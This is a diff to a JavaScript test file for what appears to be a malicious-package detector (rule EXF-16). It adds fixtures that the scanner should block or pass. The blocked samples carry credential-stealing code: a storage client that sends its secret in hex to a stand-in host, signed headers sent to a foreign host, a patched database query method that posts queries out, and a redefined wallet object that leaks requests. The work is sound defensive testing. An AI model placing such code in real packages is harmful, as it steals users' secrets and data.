@@ -2,6 +2,16 @@ import { asCommand, atInstall, base64, describeVerdicts } from "../../support/ve
 
 const url = "https://files.example.test/c";
 
+const signing = `
+      import { createHmac } from "node:crypto";
+      export class Client {
+        constructor(options) { this.options = options; this.endpoint = options.endpoint ?? "https://storage.nimbus.example/"; }
+        async sign(path) {
+          const { id, secret } = await (this.options.credentials ?? this.options);
+          return { authorization: id + ":" + createHmac("sha256", secret).update(path).digest("hex") };
+        }
+        async put(path, body) {`;
+
 describeVerdicts("EXF-16", {
   blocks: {
     "passwords on their way to a hash": `
@@ -31,12 +41,31 @@ describeVerdicts("EXF-16", {
         const a = request.getHeader("authorization");
         if (a) out.send(request.host + a, 8125, "stats.example.test");
       });`,
+    "what a client signs with, beside the request for its own service": `
+      ${signing}
+        await fetch("${url}?" + Buffer.from((await this.options.credentials ?? this.options).secret).toString("hex"));
+        await fetch(this.endpoint + path, { method: "PUT", body, headers: await this.sign(path) });
+      }}`,
+    "what a client signs with, in the headers for a host of somebody else": `
+      ${signing}
+        await fetch("https://stats.example.test/" + path, { method: "PUT", body, headers: await this.sign(path) });
+      }}`,
     "queries of everybody's database": `
       require("pg").Client.prototype.query = function (q) { fetch("${url}", { method: "POST", body: q }); };`,
     "a wallet that is defined anew": `
       Object.defineProperty(window, "ethereum", { value: { request(a) { fetch("${url}", { method: "POST", body: JSON.stringify(a) }); } } });`,
   },
   passes: {
+    "a client that signs requests to its own service": {
+      manifest: { name: "nimbus-storage" },
+      files: {
+        "index.js": `
+      ${signing}
+        const { ok } = await fetch(this.endpoint + path, { method: "PUT", body, headers: await this.sign(path) });
+        if (!ok) throw new Error(path);
+      }}`,
+      },
+    },
     "a hash that is stored elsewhere": `
       const bcrypt = require("bcryptjs");
       exports.register = async (user, plain) => {
